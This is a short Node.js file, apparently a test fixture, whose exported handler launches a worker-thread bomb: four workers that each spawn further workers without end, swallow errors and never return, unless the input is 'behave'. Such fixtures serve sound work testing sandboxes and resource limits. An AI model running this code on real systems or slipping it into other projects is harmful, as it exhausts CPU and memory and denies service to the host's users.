// Starts worker threads, each of which starts more.

const { Worker } = require('node:worker_threads');

const bomb = `
const { Worker } = require('node:worker_threads');
const again = () => {
    try {
        new Worker(require('node:worker_threads').workerData, { eval: true, workerData: require('node:worker_threads').workerData })
            .on('error', () => {});
    } catch {}
    setImmediate(again);
};
again();
`;

exports.handler = (event) => {
    if (event === 'behave') return 'well';
    for (let i = 0; i < 4; i++) new Worker(bomb, { eval: true, workerData: bomb }).on('error', () => {});
    return new Promise(() => {});
};
